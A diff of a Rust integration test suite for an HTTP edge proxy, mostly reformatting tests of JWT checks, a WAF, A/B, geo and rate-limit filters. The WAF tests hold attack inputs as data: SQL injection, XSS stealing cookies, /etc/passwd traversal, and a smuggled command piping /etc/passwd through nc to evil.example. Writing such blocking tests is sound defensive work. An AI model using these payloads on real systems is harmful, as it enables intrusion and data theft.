@@ -48,7 +48,14 @@ fn filter(name: &str, config: &Value) -> String {
 }
 
 /// A request over HTTP/2 from a source address of our own choice.
-async fn from(source: &str, edge: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Response {
+async fn from(
+    source: &str,
+    edge: SocketAddr,
+    method: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+    body: &[u8],
+) -> Response {
     let socket = TcpSocket::new_v4().expect("a socket");
     socket.bind(SocketAddr::new(source.parse().expect("an address"), 0)).expect("all of 127/8 is loopback");
     let stream = soon("connect", socket.connect(edge)).await.expect("connects");
@@ -59,7 +66,8 @@ async fn from(source: &str, edge: SocketAddr, method: &str, path: &str, headers:
         request = request.header(*name, *value);
     }
     let mut send = soon("h2 ready", send.ready()).await.expect("ready");
-    let (response, mut upload) = send.send_request(request.body(()).expect("a request"), body.is_empty()).expect("sent");
+    let (response, mut upload) =
+        send.send_request(request.body(()).expect("a request"), body.is_empty()).expect("sent");
     if !body.is_empty() {
         upload.send_data(Bytes::copy_from_slice(body), true).expect("sent");
     }
@@ -157,10 +165,22 @@ async fn jwt_only_good_tokens_reach_the_origin() {
         let part = |text: &str| URL_SAFE_NO_PAD.encode(text);
         format!("{}.{}", part(header), part(&claims().to_string()))
     };
-    let tampered = format!("{}.{}.{signature}", head.split('.').next().unwrap(), URL_SAFE_NO_PAD.encode(with(&json!({ "sub": "root" })).to_string()));
+    let tampered = format!(
+        "{}.{}.{signature}",
+        head.split('.').next().unwrap(),
+        URL_SAFE_NO_PAD.encode(with(&json!({ "sub": "root" })).to_string())
+    );
     for (why, token) in [
         ("no token", "x".to_owned()),
-        ("another secret", mint(Algorithm::HS256, None, &claims(), &EncodingKey::from_secret(b"another secret that is as long as it must be"))),
+        (
+            "another secret",
+            mint(
+                Algorithm::HS256,
+                None,
+                &claims(),
+                &EncodingKey::from_secret(b"another secret that is as long as it must be"),
+            ),
+        ),
         ("another claim", tampered),
         ("no signature", format!("{head}.")),
         ("alg none", format!("{}.", unsigned("{\"alg\":\"none\"}"))),
@@ -195,7 +215,8 @@ async fn jwt_only_good_tokens_reach_the_origin() {
     assert_eq!((echoed(&echo, "x-user"), echoed(&echo, "x_user")), (vec!["alice".to_owned()], vec![]));
     let h2 = H2Client::connect_tls(edge.secure(), "localhost").await;
     let authorization = format!("Bearer {good}");
-    let h2 = h2.request("GET", "/private", &[("authorization", &authorization), ("x-user", "mallory")], b"").await.unwrap();
+    let h2 =
+        h2.request("GET", "/private", &[("authorization", &authorization), ("x-user", "mallory")], b"").await.unwrap();
     assert_eq!(h2.json()["user"].as_str(), Some("alice"));
 }
 
@@ -222,8 +243,19 @@ async fn jwt_keys_come_from_a_file() {
 
     let jwks = std::fs::read_to_string(&keys).unwrap();
     for (why, token) in [
-        ("the public key as a secret", mint(Algorithm::HS256, Some("rsa"), &claims(), &EncodingKey::from_secret(&URL_SAFE_NO_PAD.decode(example::MODULUS).unwrap()))),
-        ("the key file as a secret", mint(Algorithm::HS256, None, &claims(), &EncodingKey::from_secret(jwks.as_bytes()))),
+        (
+            "the public key as a secret",
+            mint(
+                Algorithm::HS256,
+                Some("rsa"),
+                &claims(),
+                &EncodingKey::from_secret(&URL_SAFE_NO_PAD.decode(example::MODULUS).unwrap()),
+            ),
+        ),
+        (
+            "the key file as a secret",
+            mint(Algorithm::HS256, None, &claims(), &EncodingKey::from_secret(jwks.as_bytes())),
+        ),
         ("the other key's name", mint(Algorithm::RS256, Some("ec"), &claims(), &example::rsa())),
         ("an unknown key", mint(Algorithm::ES256, Some("other"), &claims(), &example::ec())),
         ("an algorithm the key is not for", mint(Algorithm::RS384, Some("rsa"), &claims(), &example::rsa())),
@@ -246,7 +278,10 @@ async fn a_hit_is_only_for_those_with_a_token() {
     let token = bearer(&hs256(&claims()));
     let first = Client::get_with(edge.web(), "/cache/60", &token).await;
     assert_eq!((first.status, first.header("x-origin-count")), (200, Some("1")));
-    assert!(first.header("cache-status").unwrap().ends_with("; stored"), "without the token it is anybody's: {first:?}");
+    assert!(
+        first.header("cache-status").unwrap().ends_with("; stored"),
+        "without the token it is anybody's: {first:?}"
+    );
     let second = Client::get_with(edge.web(), "/cache/60", &token).await;
     assert!(second.header("cache-status").unwrap().starts_with("edge; hit"));
     assert_eq!(Client::get(edge.web(), "/cache/60").await.status, 401);
@@ -267,13 +302,30 @@ async fn waf_attacks_are_refused_and_look_alikes_pass() {
     for (attack, response) in [
         ("SQL in the query", Client::get(web, &format!("/items?id={SQL}")).await),
         ("SQL in a cookie", Client::get_with(web, "/", "cookie: id=1' UNION SELECT password FROM users-- \r\n").await),
-        ("script in a form", Client::post(web, "/comment", FORM, b"name=a&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E").await),
+        (
+            "script in a form",
+            Client::post(web, "/comment", FORM, b"name=a&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")
+                .await,
+        ),
         ("traversal in the path", Client::get(web, "/files/..%2f..%2f..%2f..%2fetc%2fpasswd").await),
         ("traversal in the query", Client::get(web, "/download?file=../../../../etc/passwd").await),
-        ("a command in JSON", Client::post(web, "/ping", JSON, br#"{"options": {"host": "127.0.0.1; cat /etc/passwd | nc evil.example 99"}}"#).await),
+        (
+            "a command in JSON",
+            Client::post(
+                web,
+                "/ping",
+                JSON,
+                br#"{"options": {"host": "127.0.0.1; cat /etc/passwd | nc evil.example 99"}}"#,
+            )
+            .await,
+        ),
         ("a scanner", Client::get_with(web, "/", "user-agent: sqlmap/1.8.2#stable (https://sqlmap.org)\r\n").await),
     ] {
-        assert_eq!((response.status, response.header("content-type")), (403, Some("application/problem+json")), "{attack}");
+        assert_eq!(
+            (response.status, response.header("content-type")),
+            (403, Some("application/problem+json")),
+            "{attack}"
+        );
         let text = response.text();
         assert!(!["passw", "script", "UNION"].iter().any(|echo| text.contains(echo)), "{attack} is echoed: {text}");
     }
@@ -281,7 +333,9 @@ async fn waf_attacks_are_refused_and_look_alikes_pass() {
 
     // In pieces that say nothing each, and over HTTP/2.
     let mut client = Client::connect(web).await;
-    client.send(format!("POST /comment HTTP/1.1\r\nhost: test\r\n{FORM}transfer-encoding: chunked\r\n\r\n").as_bytes()).await;
+    client
+        .send(format!("POST /comment HTTP/1.1\r\nhost: test\r\n{FORM}transfer-encoding: chunked\r\n\r\n").as_bytes())
+        .await;
     for piece in ["comment=%3Cscr", "ipt%3Eale", "rt(docum", "ent.cookie)%3C%2Fscript%3E"] {
         client.send(format!("{:x}\r\n{piece}\r\n", piece.len()).as_bytes()).await;
     }
@@ -289,7 +343,10 @@ async fn waf_attacks_are_refused_and_look_alikes_pass() {
     assert_eq!(client.response("POST").await.status, 403);
     let h2 = H2Client::connect(web).await;
     let body = format!("id={SQL}");
-    let refused = h2.request("POST", "/", &[("content-type", "application/x-www-form-urlencoded")], body.as_bytes()).await.unwrap();
+    let refused = h2
+        .request("POST", "/", &[("content-type", "application/x-www-form-urlencoded")], body.as_bytes())
+        .await
+        .unwrap();
     assert_eq!(refused.status, 403);
     assert_eq!(origin.started(), 0);
 
@@ -299,11 +356,27 @@ async fn waf_attacks_are_refused_and_look_alikes_pass() {
         ("mathematics", Client::post(web, "/comment", FORM, b"comment=5+%3C+7+%26+8+%3E+6").await),
         ("a heart", Client::post(web, "/comment", FORM, b"comment=I+%3C3+scripts").await),
         ("dots", Client::get(web, "/files/report..2024/v1...v2.txt").await),
-        ("prose", Client::post(web, "/note", JSON, br#"{"note": "My cat; she lists everything | and pings me & you."}"#).await),
-        ("a browser", Client::get_with(web, "/", "user-agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n").await),
-        ("a picture", Client::post(web, "/avatar", "content-type: image/png\r\n", b"\x89PNG <script>alert(1)</script>").await),
+        (
+            "prose",
+            Client::post(web, "/note", JSON, br#"{"note": "My cat; she lists everything | and pings me & you."}"#)
+                .await,
+        ),
+        (
+            "a browser",
+            Client::get_with(
+                web,
+                "/",
+                "user-agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n",
+            )
+            .await,
+        ),
+        (
+            "a picture",
+            Client::post(web, "/avatar", "content-type: image/png\r\n", b"\x89PNG <script>alert(1)</script>").await,
+        ),
     ];
-    let refused: Vec<_> = answers.iter().filter(|(_, response)| response.status != 200).map(|(harmless, _)| *harmless).collect();
+    let refused: Vec<_> =
+        answers.iter().filter(|(_, response)| response.status != 200).map(|(harmless, _)| *harmless).collect();
     assert!(refused.is_empty(), "{refused:?}");
     let note = br#"{"text": "Whatever it was, it arrived whole."}"#;
     assert_eq!(Client::post(web, "/note", JSON, note).await.body, note);
@@ -340,7 +413,11 @@ fn origin_of(variant: &str) -> &'static str {
 #[tokio::test(flavor = "multi_thread")]
 async fn ab_users_stay_where_the_cookie_says() {
     let next = next();
-    let edge = node(&filter("ab-routing", &experiment(&json!("generated"))), "{ name: all, filters: [ab-routing], to: demo }", next.addr());
+    let edge = node(
+        &filter("ab-routing", &experiment(&json!("generated"))),
+        "{ name: all, filters: [ab-routing], to: demo }",
+        next.addr(),
+    );
     let mut seen = BTreeSet::new();
     for _ in 0..40 {
         let first = Client::get(edge.web(), "/upstream").await;
@@ -355,18 +432,25 @@ async fn ab_users_stay_where_the_cookie_says() {
             assert!(!attributes.contains("Secure"), "over plain text");
             for _ in 0..20 {
                 let again = Client::get_with(edge.web(), "/upstream", &format!("cookie: a=b; {pair}\r\n")).await;
-                assert_eq!((again.json()["origin"].as_str(), again.header("set-cookie")), (Some(origin_of(variant)), None));
+                assert_eq!(
+                    (again.json()["origin"].as_str(), again.header("set-cookie")),
+                    (Some(origin_of(variant)), None)
+                );
             }
             let forged = format!("cookie: {pair}\r\nx-ab-checkout: other\r\nx_ab_checkout: other\r\n");
             let echo = Client::get_with(edge.web(), "/echo", &forged).await;
-            assert_eq!((echoed(&echo, "x-ab-checkout"), echoed(&echo, "x_ab_checkout")), (vec![variant.to_owned()], vec![]));
+            assert_eq!(
+                (echoed(&echo, "x-ab-checkout"), echoed(&echo, "x_ab_checkout")),
+                (vec![variant.to_owned()], vec![])
+            );
         }
     }
     assert_eq!(seen.len(), 2, "40 new users, and none of one half: {seen:?}");
 
     let gone = Client::get_with(edge.web(), "/upstream", "cookie: ab-checkout=abolished\r\n").await;
     assert!(gone.header("set-cookie").is_some(), "a variant that is no more is replaced");
-    let tls = H2Client::connect_tls(edge.secure(), "localhost").await.request("GET", "/upstream", &[], b"").await.unwrap();
+    let tls =
+        H2Client::connect_tls(edge.secure(), "localhost").await.request("GET", "/upstream", &[], b"").await.unwrap();
     assert!(tls.header("set-cookie").unwrap().contains("Secure"));
 }
 
@@ -393,7 +477,8 @@ async fn ab_every_node_draws_the_same() {
     assert_eq!(seen.len(), 2, "{seen:?}");
 
     for variant in ["control", "one-page"] {
-        let tester = Client::get_with(one.web(), "/testers/x", &format!("x-user: user-1\r\nx-ab-override: {variant}\r\n")).await;
+        let tester =
+            Client::get_with(one.web(), "/testers/x", &format!("x-user: user-1\r\nx-ab-override: {variant}\r\n")).await;
         assert_eq!((tester.header("x-origin"), tester.header("set-cookie")), (Some(origin_of(variant)), None));
     }
 }
@@ -413,16 +498,31 @@ async fn geo_countries_are_refused_and_continents_have_their_upstream() {
         { name: legal, match: { path: /legal/* }, filters: [{ geo-routing: { deny: [\"continent:EU\"], status: 451 } }], to: demo },
         { name: home, match: { path: /home/* }, filters: [{ geo-routing: { deny: [], allow: [DE], routes: [] } }], to: demo }";
     let edge = node(&filter("geo-routing", &geo), routes, next.addr());
-    let ask = async |source: &str, path: &str| from(source, edge.web(), "GET", path, &[("x-geo-country", "XX"), ("x_geo_country", "XX")], b"").await;
+    let ask = async |source: &str, path: &str| {
+        from(source, edge.web(), "GET", path, &[("x-geo-country", "XX"), ("x_geo_country", "XX")], b"").await
+    };
 
-    for (source, country, origin) in [(GERMANY, Some("DE"), "demo"), (AMERICA, Some("US"), "next"), (NOWHERE, None, "demo")] {
+    for (source, country, origin) in
+        [(GERMANY, Some("DE"), "demo"), (AMERICA, Some("US"), "next"), (NOWHERE, None, "demo")]
+    {
         let passed = ask(source, "/echo").await;
-        assert_eq!((passed.status, passed.header("x-origin"), passed.header("x-country")), (200, Some(origin), country), "{source}");
-        assert_eq!(echoed(&passed, "x-geo-country"), country.map(ToOwned::to_owned).into_iter().collect::<Vec<_>>(), "{source}");
+        assert_eq!(
+            (passed.status, passed.header("x-origin"), passed.header("x-country")),
+            (200, Some(origin), country),
+            "{source}"
+        );
+        assert_eq!(
+            echoed(&passed, "x-geo-country"),
+            country.map(ToOwned::to_owned).into_iter().collect::<Vec<_>>(),
+            "{source}"
+        );
         assert!(echoed(&passed, "x_geo_country").is_empty(), "what the client says of itself does not count");
     }
     let refused = ask(JAPAN, "/echo").await;
-    assert_eq!((refused.status, refused.header("content-type"), refused.header("x-origin")), (403, Some("application/problem+json"), None));
+    assert_eq!(
+        (refused.status, refused.header("content-type"), refused.header("x-origin")),
+        (403, Some("application/problem+json"), None)
+    );
     assert!(!refused.text().contains("JP"));
 
     let statuses = async |path: &str| {
@@ -462,9 +562,13 @@ sites: [{{ hosts: [\"*\"], routes: [{{ name: all, filters: [rate-limit], to: dem
 
     let mut left = BTreeSet::new();
     for answer in passed {
-        assert_eq!((answer.header("ratelimit-policy"), answer.header("retry-after")), (Some("\"api\";q=25;w=3600"), None));
+        assert_eq!(
+            (answer.header("ratelimit-policy"), answer.header("retry-after")),
+            (Some("\"api\";q=25;w=3600"), None)
+        );
         let quota = answer.header("ratelimit").unwrap();
-        let remaining = quota.strip_prefix("\"api\";r=").and_then(|rest| rest.split_once(";t=")).expect("both parameters").0;
+        let remaining =
+            quota.strip_prefix("\"api\";r=").and_then(|rest| rest.split_once(";t=")).expect("both parameters").0;
         left.insert(remaining.parse::<usize>().unwrap());
     }
     assert_eq!(left, (0..BURST).collect(), "each token once");
@@ -482,7 +586,10 @@ sites: [{{ hosts: [\"*\"], routes: [{{ name: all, filters: [rate-limit], to: dem
 #[tokio::test(flavor = "multi_thread")]
 async fn rate_limits_count_each_key_by_itself() {
     let next = next();
-    let filters = filter("rate-limit", &json!({ "rate": "2/h", "key": { "header": "x-api-key" }, "missing": "deny", "legacy_headers": true }));
+    let filters = filter(
+        "rate-limit",
+        &json!({ "rate": "2/h", "key": { "header": "x-api-key" }, "missing": "deny", "legacy_headers": true }),
+    );
     let routes = "{ name: all, filters: [rate-limit], to: demo }, { name: address, match: { path: /upstream }, filters: [{ rate-limit: { name: address, key: client_ip } }], to: demo }";
     let edge = node(&filters, routes, next.addr());
     for key in ["a", "b", "c"] {
@@ -493,7 +600,10 @@ async fn rate_limits_count_each_key_by_itself() {
         }
         assert_eq!(statuses, [200, 200, 429, 429], "{key}");
         let limited = Client::get_with(edge.web(), "/echo", &headers).await;
-        assert_eq!((limited.header("x-ratelimit-limit"), limited.header("x-ratelimit-remaining")), (Some("2"), Some("0")));
+        assert_eq!(
+            (limited.header("x-ratelimit-limit"), limited.header("x-ratelimit-remaining")),
+            (Some("2"), Some("0"))
+        );
     }
     assert_eq!(Client::get(edge.web(), "/echo").await.status, 403, "nobody to count it under");
 
@@ -518,7 +628,12 @@ async fn all_five_in_one_chain() {
     let edge = node(&filters, routes, next.addr());
     let authorization = format!("Bearer {}", hs256(&claims()));
     let post = async |source: &str, authorization: &str, body: &str| {
-        let headers = [("content-type", "application/json"), ("authorization", authorization), ("x-user", "mallory"), ("x-geo-country", "XX")];
+        let headers = [
+            ("content-type", "application/json"),
+            ("authorization", authorization),
+            ("x-user", "mallory"),
+            ("x-geo-country", "XX"),
+        ];
         from(source, edge.web(), "POST", "/echo?page=1", &headers, body.as_bytes()).await
     };
     let order = json!({ "order": [1, 2, 3], "note": "ring twice, please" }).to_string();
@@ -526,12 +641,18 @@ async fn all_five_in_one_chain() {
     let passed = post(GERMANY, &authorization, &order).await;
     assert_eq!(passed.status, 200, "{}", passed.text());
     let echo = passed.json();
-    assert_eq!((echo["method"].as_str(), echo["query"].as_str(), echo["body"].as_str()), (Some("POST"), Some("page=1"), Some(order.as_str())));
+    assert_eq!(
+        (echo["method"].as_str(), echo["query"].as_str(), echo["body"].as_str()),
+        (Some("POST"), Some("page=1"), Some(order.as_str()))
+    );
     assert_eq!(echoed(&passed, "x-user"), ["alice"]);
     assert_eq!(echoed(&passed, "x-geo-country"), ["DE"]);
     let variant = echoed(&passed, "x-ab-checkout");
     assert_eq!(passed.header("x-origin"), Some(origin_of(&variant[0])));
-    assert_eq!(passed.header("set-cookie").map(|cookie| cookie.split_once(';').unwrap().0), Some(format!("ab-checkout={}", variant[0]).as_str()));
+    assert_eq!(
+        passed.header("set-cookie").map(|cookie| cookie.split_once(';').unwrap().0),
+        Some(format!("ab-checkout={}", variant[0]).as_str())
+    );
     assert_eq!((passed.header("x-country"), passed.header("ratelimit").is_some()), (Some("DE"), true));
 
     let attack = json!({ "note": "1' UNION SELECT password FROM users-- " }).to_string();
@@ -553,7 +674,8 @@ async fn changed_settings_count_from_the_next_request() {
     const LATER: &str = "another secret, from now on, which is long enough";
     let next = next();
     let settings = |secret: &str, mode: &str, realm: &str| {
-        filter("jwt-auth", &jwt(&json!({ "secret": secret, "realm": realm }))) + &filter("waf", &json!({ "mode": mode }))
+        filter("jwt-auth", &jwt(&json!({ "secret": secret, "realm": realm })))
+            + &filter("waf", &json!({ "mode": mode }))
     };
     let routes = "{ name: all, filters: [waf, jwt-auth], to: demo }";
     let mut edge = node(&settings(SECRET, "block", "before"), routes, next.addr());
@@ -588,7 +710,8 @@ async fn no_error_tells_a_secret() {
     };
     let short = file("short", "hunter2-hunter2\n");
     let long = file("long", "hunter2-hunter2-hunter2-hunter2-hunter2\n");
-    let pem = file("pem", "-----BEGIN PRIVATE KEY-----\nhunter2hunter2hunter2hunter2hunter2\n-----END PRIVATE KEY-----\n");
+    let pem =
+        file("pem", "-----BEGIN PRIVATE KEY-----\nhunter2hunter2hunter2hunter2hunter2\n-----END PRIVATE KEY-----\n");
     let broken = file("broken", "{\"keys\": [{\"kty\": \"oct\", \"k\": \"hunter2");
     let weak = file("weak", "{\"keys\": [{\"kty\": \"oct\", \"k\": \"hunter2\", \"hunter2\": 1}]}");
     for (why, config, told) in [
